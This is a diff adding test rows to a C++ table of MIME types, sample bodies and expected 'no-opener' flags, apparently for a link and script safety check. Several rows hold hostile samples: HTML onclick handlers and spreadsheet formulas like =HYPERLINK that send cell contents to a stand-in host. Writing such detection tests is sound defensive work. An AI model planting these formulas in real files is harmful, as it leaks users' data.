@@ -41,6 +41,28 @@ constexpr Row kRows[] = {
     {"Content-Type: image/svg+xml",
      "<svg xmlns='http://www.w3.org/2000/svg' onload='f()'><a href='http://h.example/'/></svg>",
      "no-opener "},
+    // Beside what is shown first Outlook has a file.
+    {"Content-Type: multipart/mixed; boundary=x",
+     "--x\n\nhttp://h.example/\n--x\nContent-Type: text/html\n\n<p onclick='f()'>\n--x--",
+     "no-opener "},
+    {"Content-Type: multipart/mixed; boundary=x",
+     "--x\nContent-Type: text/html\n\n<p onclick='f()'>http://h.example/\n--x--", ""},
+    {"Content-Type: multipart/alternative; boundary=x",
+     "--x\n\nhttp://h.example/\n--x\nContent-Type: text/html\n\n<p onclick='f()'>\n--x--", ""},
+    {"Content-Type: multipart/related; boundary=x",
+     "--x\n\nhttp://h.example/\n--x\nContent-Type: text/html\n\n<p onclick='f()'>\n--x--", ""},
+    {"Content-Type: multipart/mixed; boundary=x",
+     "--x\n\nhttp://h.example/\n--x\nContent-Type: message/rfc822\n\nContent-Type: "
+     "text/html\n\n<p onclick='f()'>\n--x--",
+     ""},
+    // Formulas of tables.
+    {"Content-Type: text/csv", "a,=HYPERLINK(\"http://h.example/\")", ""},
+    {"Content-Type: text/csv", "a,=HYPERLINK(A1) http://h.example/", "no-opener "},
+    {"Content-Type: text/plain; name=a.csv", "=hyperlink(\"http://h.example/\"&A1)",
+     "no-opener a.csv"},
+    {"Content-Type: text/plain", "=hyperlink(\"http://h.example/\"&A1)", ""},
+    {"Content-Type: application/vnd.ms-excel; name=a.xls",
+     "<table><td>=IMAGE(A1) http://h.example/</table>", "no-opener a.xls"},
     // By another reading alone: what the type says is a text.
     {"Content-Type: application/xml; name=a.html", kScript, "no-opener a.html"},
     // Once, however many readings there are.
